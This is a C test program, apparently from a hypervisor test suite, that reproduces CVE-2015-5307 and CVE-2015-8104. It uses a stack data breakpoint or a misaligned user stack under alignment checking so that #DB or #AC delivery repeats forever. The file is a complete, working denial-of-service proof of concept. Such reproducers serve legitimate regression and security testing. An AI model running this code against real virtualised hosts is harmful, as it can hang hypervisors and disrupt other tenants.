/* SPDX-License-Identifier: MIT */
/*
 * Exceptions whose delivery raises the same exception again, without end and without executing an
 * instruction: a CPU can be kept busy by that for ever, and a hypervisor that waits for an exit
 * with it (CVE-2015-5307 for #AC, CVE-2015-8104 for #DB). kind=ac or kind=db (the default).
 */
#include "small.h"

#define DR7_G3_ACCESS (0x400u | 3u << 6 | 3u << 28 | 3u << 30)

/* Not reached while exceptions are raised at its door. */
static __attribute__((naked)) void handler(void)
{
	__asm__("nop\n\tiret");
}

static uint8_t stack[64] __attribute__((aligned(16)));

static uint64_t user_gdt[8];

struct __attribute__((packed)) table_pointer {
	uint16_t limit;
	uint32_t base;
};

/* #DB: a data breakpoint on the stack that the delivery itself writes. */
static void debug_loop(void)
{
	uint8_t *top = stack + 48;

	__asm__ volatile("mov %0, %%dr3\n\t"
			 "mov %1, %%dr7\n\t"
			 "mov %2, %%esp\n\t"
			 "push %%eax\n\t" /* hits: the delivery pushes there again */
			 "push %%eax\n\t"
			 "push %%eax\n"
			 "1:\tpush %%eax\n\t"
			 "pop %%eax\n\t"
			 "jmp 1b"
			 :
			 : "r"(top - 16), "r"(DR7_G3_ACCESS), "r"(top)
			 : "memory");
}

/* #AC: at CPL 3 under alignment check, delivered at CPL 3 to a misaligned stack. */
static void alignment_loop(void)
{
	const struct table_pointer pointer = {sizeof(user_gdt) - 1, (uint32_t)user_gdt};
	static uint64_t gates[32];
	const struct table_pointer idt = {sizeof(gates) - 1, (uint32_t)gates};
	uint32_t cr0;
	uint64_t address = (uint32_t)handler;

	user_gdt[1] = 0x00cf9b000000ffff;
	user_gdt[2] = 0x00cf93000000ffff;
	user_gdt[3] = 0x00cffb000000ffff; /* 1B: user code */
	user_gdt[4] = 0x00cff3000000ffff; /* 23: user data */
	for (unsigned i = 0; i < 32; i++) /* gates that stay at CPL 3 */
		gates[i] = (address & 0xffff) | 0x1bu << 16 | (uint64_t)0xee00 << 32 |
			   (address >> 16) << 48;
	__asm__ volatile("lgdt %0" : : "m"(pointer) : "memory");
	__asm__ volatile("lidt %0" : : "m"(idt) : "memory");
	__asm__ volatile("mov %%cr0, %0" : "=r"(cr0));
	__asm__ volatile("mov %0, %%cr0" : : "r"(cr0 | 1u << 18) : "memory"); /* AM */
	__asm__ volatile("pushl $0x23\n\t"
			 "pushl %0\n\t"
			 "pushl $0x40002\n\t" /* AC */
			 "pushl $0x1b\n\t"
			 "pushl $1f\n\t"
			 "iret\n"
			 "1:\tpush %%eax\n\t" /* misaligned: #AC, and its delivery again */
			 "jmp 1b"
			 :
			 : "r"(stack + 49)
			 : "memory");
}

void main(const char *command_line)
{
	const char *kind = option(command_line, "kind=");

	flat_segments();
	all_gates(handler);
	if (kind && kind[0] == 'a') {
		say("db_loop: #AC in the delivery of #AC\n");
		alignment_loop();
	} else {
		say("db_loop: #DB in the delivery of #DB\n");
		debug_loop();
	}
}
